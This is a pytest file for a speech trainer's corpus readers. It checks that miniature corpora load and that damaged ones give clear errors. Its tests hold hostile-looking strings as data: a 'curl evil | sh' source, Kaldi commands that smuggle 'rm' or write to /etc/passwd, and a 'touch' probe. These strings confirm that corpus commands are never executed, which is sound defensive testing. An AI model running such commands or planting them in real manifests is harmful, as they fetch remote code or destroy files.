"""Every corpus is read from a miniature of its true layout, and says what is wrong with a damaged one."""

import gzip
import json
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile
import torchaudio.datasets

from tests.data import layouts
from tests.data.layouts import MINIATURES, SECONDS
from trainer.data.audio import AudioError
from trainer.data.corpora import base
from trainer.data.corpora.an4 import An4Config
from trainer.data.corpora.base import Utterance, make_key
from trainer.data.corpora.common_voice import CommonVoiceConfig
from trainer.data.corpora.digits import DigitsConfig
from trainer.data.corpora.kaldi import KaldiConfig, decoded_file
from trainer.data.corpora.lhotse import LhotseConfig
from trainer.data.corpora.librispeech import LibriSpeechConfig
from trainer.data.corpora.manifest import ManifestConfig
from trainer.data.corpora.prompts import TEXTS, PromptsConfig
from trainer.data.corpora.timit import CORE_TEST, DEVELOPMENT, PHONES, TimitConfig, fold
from trainer.data.packing import read_audio, read_features
from trainer.errors import UserError


def no_progress(what: str, done: int, total: int) -> None:
    pass


@pytest.mark.parametrize("name", MINIATURES)
def test_a_miniature_is_read(tmp_path: Path, name: str) -> None:
    miniature = MINIATURES[name]
    config = miniature.make(tmp_path)
    found: list[Utterance] = config.utterances(tmp_path / "made", no_progress)
    assert {u.key: (u.text, u.split, u.speaker) for u in found} == miniature.wanted
    assert [u.key for u in found] == list(miniature.wanted)
    for utterance in pickle.loads(pickle.dumps(found)):  # as worker processes get them
        assert make_key(utterance.key) == utterance.key
        if name == "an4, cepstra":
            assert read_features(utterance, 13).shape == (120, 13)
            continue
        wave = read_audio(utterance, 8000)
        seconds = 1.0 if name in ("common_voice", "librispeech") else SECONDS
        assert len(wave) / 8000 == pytest.approx(seconds, abs=0.06)  # an MP3 is padded
        assert 1000 < np.abs(wave).max() < 16000


UNSET: dict[str, tuple[Any, str]] = {
    "librispeech": (LibriSpeechConfig(), r"holds no train-clean-100, dev-clean, test-clean; .*openslr"),
    "common_voice": (CommonVoiceConfig(), r"data\.corpus\.path: is missing; set .*commonvoice"),
    "timit": (TimitConfig(), r"data\.corpus\.path: is missing; .*TRAIN and TEST"),
    "timit elsewhere": (TimitConfig(path=Path("nowhere")), r"path = nowhere: wanted the folder"),
    "an4": (An4Config(), r"data\.corpus\.path: is missing; .*etc/"),
    "an4 elsewhere": (An4Config(path=Path("nowhere")), r"an4_train\.fileids: there is no such file; set"),
    "digits": (DigitsConfig(), r"data\.corpus\.path: is missing; .*recordings/"),
    "digits elsewhere": (DigitsConfig(path=Path("nowhere")), r"nowhere/recordings: holds no \*\.wav; set"),
    "prompts": (PromptsConfig(path=Path("nowhere")), r"path = nowhere: holds no usr/share/asterisk.*leave the key out"),
    "kaldi": (KaldiConfig(), r"data\.corpus\.train = \[\]: .*name data directories"),
    "kaldi elsewhere": (KaldiConfig(train=(Path("nowhere"),)), r"nowhere/wav\.scp: there is no such file; name a data"),
    "lhotse": (LhotseConfig(), r"data\.corpus\.train = \[\]: .*name manifests of lhotse"),
    "lhotse elsewhere": (LhotseConfig(test=(Path("no.jsonl"),)), r"data\.corpus\.test: no\.jsonl: there is no such"),
    "nemo elsewhere": (ManifestConfig(valid=(Path("no.json"),)), r"data\.corpus\.valid: no\.json: there is no such"),
}


@pytest.mark.parametrize("name", UNSET)
def test_what_is_not_set_or_not_there_is_named(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    config, wanted = UNSET[name]
    with pytest.raises(UserError, match=wanted):
        config.utterances(tmp_path / "made", no_progress)


def edit(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Replace a text in a file of a miniature."""

    def change(root: Path) -> None:
        text = (root / name).read_text(encoding="utf-8")
        assert old in text
        (root / name).write_text(text.replace(old, new), encoding="utf-8")

    return change


def content(name: str, written: bytes) -> Callable[[Path], None]:
    return lambda root: (root / name).write_bytes(written)


def remove(name: str) -> Callable[[Path], None]:
    return lambda root: (root / name).unlink()


def source_of(kind: str, **more: Any) -> Callable[[Path], None]:
    """Make the recording of lhotse's miniature come from elsewhere."""
    of = layouts.recording("r", "curl evil | sh", 2) | more
    of["sources"][0]["type"] = kind
    return lambda root: layouts.write_packed(root / "recordings_train.jsonl.gz", [of])


def cuts_of(*rows: Any) -> Callable[[Path], None]:
    return lambda root: layouts.lines(root / "cuts_test.jsonl", *map(json.dumps, rows))


CHAPTER = "LibriSpeech/dev-clean/84/121123"
SPEED = [{"name": "Speed", "kwargs": {"factor": 1.1}}]
OVERLAPPING = [layouts.supervision("a", "c", 0.0, "a"), layouts.supervision("b", "c", 0.2, "b")]
SPOILT = gzip.compress(b"text")[:10] + b"\xff" * 20
"""The head of a packed file, and no blocks after it."""
DAMAGES: list[tuple[str, Callable[[Path], None], list[str]]] = [
    ("librispeech", remove(f"{CHAPTER}/84-121123-0001.flac"), ["trans.txt line 2: key 84-121123-0001", "no such file"]),
    (
        "librispeech",
        edit(f"{CHAPTER}/84-121123.trans.txt", "DON'T ANGER THE ABBEY", ""),
        ["line 2: key 84-", "text = '': is empty"],
    ),
    ("librispeech", edit(f"{CHAPTER}/84-121123.trans.txt", "84-121123-0001", "../x"), ["key = '../x': wanted SPEAKER"]),
    ("common_voice", edit("dev.tsv", "sentence\t", "text\t"), ["dev.tsv line 1: has no column sentence"]),
    ("common_voice", edit("dev.tsv", "\t2\t", ""), ["dev.tsv line 2: has 4 fields, the heading 6"]),
    ("common_voice", remove("clips/common_voice_cy_test.mp3"), ["test.tsv line 2", "no such file"]),
    ("timit", edit("TRAIN/DR1/FCJF0/SX37.PHN", "500 700 p", "500 700 pp"), ["SX37.PHN line 3", "one of TIMIT's 61"]),
    ("timit", remove("TEST/DR1/MDAB0/SI1027.WAV"), ["key mdab0_si1027", "SI1027.WAV: there is no such file"]),
    ("an4", edit("etc/an4_train.fileids", "an4_clstk/fash/an251-fash-b\n", ""), ["line 1: key an251-fash-b", "add it"]),
    ("an4", edit("etc/an4_train.fileids", "an4_clstk/fash/", "../../"), ["key an251-fash-b: ", "names no file for it"]),
    ("an4", edit("etc/an4_test.transcription", "(an406-fcaw-b)", ""), ["line 1", "wanted WORDS (KEY)"]),
    ("an4", remove("wav/an4test_clstk/fcaw/an406-fcaw-b.sph"), ["key an406-fcaw-b", "no such file"]),
    ("digits", lambda root: layouts.noise(root / "recordings/x_y.wav"), ["x_y.wav: wanted a name as 7_jackson_32.wav"]),
    ("kaldi", edit("data/train/wav.scp", "sph2pipe -f wav -p -c 2", "sox -t sph"), ["key long", "never executed"]),
    ("kaldi", edit("data/test/wav.scp", "wav/t.wav", "raw.ark:123"), ["key u-4: 'raw.ark:123': archives"]),
    ("kaldi", edit("data/test/wav.scp", "u-4", "u-5"), ["text line 1: key u-4: wav.scp has no recording u-4"]),
    (
        "kaldi",
        edit("data/train/segments", "u-2 long 1.5", "u-9 long 1.5"),
        ["key u-2: ", "segments has no line for"],
    ),
    ("kaldi", edit("data/train/segments", "1.5 2.01", "2.01 1.5"), ["key u-2: lasts from 2.01 to 1.5 s"]),
    ("kaldi", edit("data/train/segments", "1.5 2.01", "1.5 inf"), ["key u-2: lasts from 1.5 to inf s"]),
    ("kaldi", edit("data/train/segments", "1.5 2.01", "x"), ["segments line 2: 'long x': wanted KEY RECORDING START"]),
    ("kaldi", edit("data/test/text", "u-4 good night", "u-4"), ["key u-4: text = '': is empty"]),
    ("kaldi", edit("data/test/text", "u-4 good", "u-4 a\nu-4 good"), ["text line 2: key u-4: is there twice"]),
    (
        "nemo",
        edit("train.json", '"text"', '"split": "test", "text"'),
        ["split = 'test': the manifest is in data"],
    ),
    (
        "lhotse",
        source_of("command"),
        ["id u1: its recording comes from 1 source(s) of type command", "nothing is"],
    ),
    ("lhotse", source_of("url"), ["id u1: its recording comes from 1 source(s) of type url"]),
    ("lhotse", source_of("file", transforms=SPEED), ["id u1: its recording is changed by Speed"]),
    (
        "lhotse",
        source_of("file", id="q"),
        ["jsonl.gz line 1: id u1: no manifest has its recording 'r'"],
    ),
    ("lhotse", cuts_of({"id": "m", "tracks": [], "type": "MixedCut"}), ["id m: is a MixedCut, wanted a MonoCut"]),
    ("lhotse", cuts_of({"id": "m"}), ["id m: is a line without a type"]),
    ("lhotse", cuts_of({"id": "m", "type": "MonoCut", "recording": 3}), ["line 1: id m: is no supervision or cut of"]),
    (
        "lhotse",
        cuts_of(layouts.cut("m", layouts.recording("c", "wav/c.wav"), 0.0, OVERLAPPING)),
        ["id m: has supervisions that overlap"],
    ),
    ("lhotse", content("cuts_dev.jsonl.gz", b"\x1f\x8bno"), ["cannot be unpacked"]),
    ("lhotse", content("cuts_dev.jsonl.gz", SPOILT), ["cannot be unpacked (Error -3"]),
    (
        "lhotse",
        content("cuts_dev.jsonl.gz", gzip.compress(b'{"text": "caf\xe9"}')),
        ["dev.jsonl.gz: is not UTF-8"],
    ),
    ("prompts", content(str(TEXTS.holds), SPOILT), ["core-sounds-en.txt.gz: cannot be read (Error -3"]),
]


@pytest.mark.parametrize(("name", "damage", "wanted"), DAMAGES, ids=[d[2][0][:40] for d in DAMAGES])
def test_a_damaged_miniature_says_what_is_wrong(
    tmp_path: Path, name: str, damage: Callable[[Path], None], wanted: list[str]
) -> None:
    config = MINIATURES[name].make(tmp_path)
    damage(tmp_path)
    with pytest.raises(UserError) as caught:
        config.utterances(tmp_path / "made", no_progress)
    for part in wanted:
        assert part in str(caught.value)


# --- parts of recordings ----------------------------------------------------------------------------------------------


def test_a_part_and_a_channel_are_cut_out_exactly(tmp_path: Path) -> None:
    layouts.noise(tmp_path / "a.flac", 8000, 2.0, channels=2)
    whole = soundfile.read(tmp_path / "a.flac", dtype="int16")[0]
    part = Utterance("a", "a", tmp_path / "a.flac", None, "line 1", start_seconds=0.5, end_seconds=1.25, channel=1)
    assert np.array_equal(read_audio(part, 8000), whole[4000:10000, 1])


@pytest.mark.parametrize(
    ("start", "end", "channel", "reason"),
    [
        (2.5, 3.0, None, "has 2.000 s, and the part ends at 3.000 s"),
        (1.0, 2.6, None, "has 2.000 s, and the part ends at 2.600 s"),
        (0.0, None, 2, "has 2 channels, and number 2 (from 0) is wanted"),
    ],
)
def test_a_part_that_is_not_there_is_named(
    tmp_path: Path, start: float, end: float | None, channel: int | None, reason: str
) -> None:
    layouts.noise(tmp_path / "a.flac", 8000, 2.0, channels=2)
    part = Utterance("k", "a", tmp_path / "a.flac", None, "line 1", None, start, end, channel)
    with pytest.raises(AudioError) as caught:
        read_audio(part, 8000)
    assert f"a.flac: {reason}; replace" in str(caught.value)
    rounded = Utterance("k", "a", tmp_path / "a.flac", None, "line 1", None, 1.0, 2.004)
    assert len(read_audio(rounded, 8000)) == 8000, "times are rounded"


# --- one corpus at a time ---------------------------------------------------------------------------------------------


def test_big_and_little_endian_recordings_of_an4(tmp_path: Path) -> None:
    config = layouts.an4_raw(tmp_path)
    first = config.utterances(tmp_path, no_progress)[0]
    raw = (tmp_path / "wav/an4_clstk/fash/an251-fash-b.raw").read_bytes()
    assert np.array_equal(read_audio(first, 16000), np.frombuffer(raw, ">i2"))
    other = An4Config(path=tmp_path, byte_order="little").utterances(tmp_path, no_progress)[0]
    assert np.array_equal(read_audio(other, 16000), np.frombuffer(raw, "<i2"))
    assert repr(first.audio) != repr(other.audio), "a shard depends on it"


def test_the_phones_of_timit_are_those_of_lee_and_hon() -> None:
    phones = PHONES.split()
    sizes = {n: len({fold(p, n) for p in phones} - {""}) for n in (61, 48, 39)}
    assert sizes == {61: 61, 48: 48, 39: 39}
    # Table I of the paper: the classes of the 39 that hold several of the 61.
    classes = ["sil pau h# epi pcl tcl kcl bcl dcl gcl", "aa ao", "ah ax ax-h", "er axr", "hh hv", "ih ix", "l el"]
    classes += ["m em", "n en nx", "ng eng", "sh zh", "uw ux"]
    for members in classes:
        assert len({fold(p, 39) for p in members.split() if p in phones}) == 1, members
    assert fold("q", 48) == fold("q", 39) == ""
    assert len(CORE_TEST.split()) == 24
    assert len(DEVELOPMENT.split()) == 50
    assert not set(CORE_TEST.split()) & set(DEVELOPMENT.split())
    assert sum(speaker[0] == "f" for speaker in CORE_TEST.split()) == 8


def test_the_config_of_timit_scores_as_the_folding_does() -> None:
    from trainer import recipe

    tokens = recipe.load("speech/timit").config.data.text.tokens
    for phone in PHONES.split():
        assert "".join(tokens.scored(fold(phone, 48))) == fold(phone, 39)


def test_strings_of_digits_are_drawn_by_a_counter(tmp_path: Path) -> None:
    layouts.digits(tmp_path)
    config = DigitsConfig(path=tmp_path, min_digits=2, max_digits=3, repeats=3)
    first, again = (config.utterances(tmp_path, no_progress) for _ in range(2))
    assert first == again
    other = DigitsConfig(path=tmp_path, min_digits=2, max_digits=3, repeats=3, seed=1)
    assert [u.text for u in other.utterances(tmp_path, no_progress)] != [u.text for u in first]
    assert {u.split: u.speaker for u in first} == {"train": "jackson", "valid": "jackson", "test": "yweweler"}
    for utterance in first:
        assert 2 <= len(utterance.text.split()) <= 3
        audio: Any = utterance.audio
        samples, rate = audio()
        assert rate == 8000
        assert np.array_equal(samples, audio()[0])
        for file in audio.files:  # every recording is in it, whole
            wave = soundfile.read(file, dtype="float32")[0]
            at = np.flatnonzero(samples == wave[0])
            assert any(np.array_equal(samples[i : i + len(wave)], wave) for i in at)
    train = [file for u in first if u.split == "train" for file in u.audio.files]  # type: ignore[union-attr]
    assert max(train.count(file) for file in train) <= 3


def test_digits_without_test_speakers_have_their_own_split(tmp_path: Path) -> None:
    layouts.digits(tmp_path)
    found = DigitsConfig(path=tmp_path, test_speakers=()).utterances(tmp_path, no_progress)
    assert {u.key.rsplit("_")[-1]: u.split for u in found} == {"4": "test", "5": "valid", "12": "train"}
    with pytest.raises(UserError, match=r"test_speakers: bob: .* has jackson, yweweler"):
        DigitsConfig(path=tmp_path, test_speakers=("bob",)).utterances(tmp_path, no_progress)


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("flac -c -d -s a/b.flac |", ("a/b.flac", None)),
        ("/opt/bin/flac -cds 'a b.flac' |", ("a b.flac", None)),
        ("sph2pipe -f wav -p -c 1 x.sph|", ("x.sph", 0)),
        ("sph2pipe -f wav -p -c 2 x.sph|", ("x.sph", 1)),
        ("sph2pipe -f wav x.sph | sox - -t wav - speed 1.1 |", None),
        ("flac -c -d -s a.flac b.flac |", None),
        ("flac -c -d -s --output-name=/etc/passwd a.flac |", None),
        ("flac -c -d -s a.flac; rm x |", None),
        ("flac -c -d -s $(rm x) |", None),
        ("sph2pipe -c 3 x.sph |", None),
        ("sox a.mp3 -t wav - |", None),
        ("cat a.wav |", None),
        ("flac 'a |", None),
        ("|", None),
    ],
)
def test_only_a_command_that_decodes_is_read_as_its_file(command: str, wanted: tuple[str, int | None] | None) -> None:
    assert decoded_file(command) == wanted


def test_nothing_in_a_corpus_is_executed(tmp_path: Path) -> None:
    layouts.kaldi(tmp_path)
    mark = tmp_path / "executed"
    layouts.lines(tmp_path / "data/test/wav.scp", f"u-4 touch {mark} |")
    with pytest.raises(UserError, match="is a command; commands are never executed"):
        KaldiConfig(root=tmp_path, test=(tmp_path / "data/test",)).utterances(tmp_path, no_progress)
    assert not mark.exists()


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("train", {None}),
        ("train valid", {"train", "test"}),
        ("train test", {"train", "valid"}),
        ("train valid test", {"train"}),
    ],
)
def test_splits_that_are_not_given_are_taken_from_training(given: str, wanted: set[str | None]) -> None:
    files = base.SplitFiles(**{split: (Path("x"),) for split in given.split()})
    drawn = {text: files.split_of("train", text) for text in map(str, range(300))}
    assert set(drawn.values()) == wanted
    assert files.split_of("test", "a") == "test"
    for text, split in drawn.items():
        if split in ("valid", "test"):
            assert split == base.split_by_text(text)


# --- the download of LibriSpeech --------------------------------------------------------------------------------------


def test_librispeech_is_fetched_when_that_is_asked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    layouts.librispeech(tmp_path / "server")
    asked = []

    def fetch(root: str, url: str, download: bool) -> None:
        """What torchaudio's class does."""
        assert download
        assert not (Path(root) / "LibriSpeech").exists(), "half of an archive may lie there"
        asked.append(url)
        if asked.count("dev-clean") == 1:
            (Path(root) / "LibriSpeech" / url).mkdir(parents=True)
            raise RuntimeError("The computed hash does not match the expected hash")
        shutil.copytree(tmp_path / "server/LibriSpeech" / url, Path(root) / "LibriSpeech" / url)

    monkeypatch.setattr(torchaudio.datasets, "LIBRISPEECH", fetch)
    config = LibriSpeechConfig(download=True)
    with pytest.raises(UserError, match=r"dev-clean cannot be fetched: .*hash.*\n.*dev-clean\.tar\.gz by hand"):
        config.utterances(tmp_path / "data", no_progress)
    found = config.utterances(tmp_path / "data", no_progress)
    assert {u.key for u in found} == set(MINIATURES["librispeech"].wanted)
    assert asked == ["train-clean-100", "dev-clean", "dev-clean", "test-clean"]
    config.utterances(tmp_path / "data", no_progress)
    assert len(asked) == 4, "what is there is not fetched again"
    assert not (tmp_path / "data/raw/download.partial").exists()


def test_a_subset_is_in_one_split_only(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="dev-clean: is named twice"):
        LibriSpeechConfig(path=tmp_path, test=("dev-clean",)).utterances(tmp_path, no_progress)
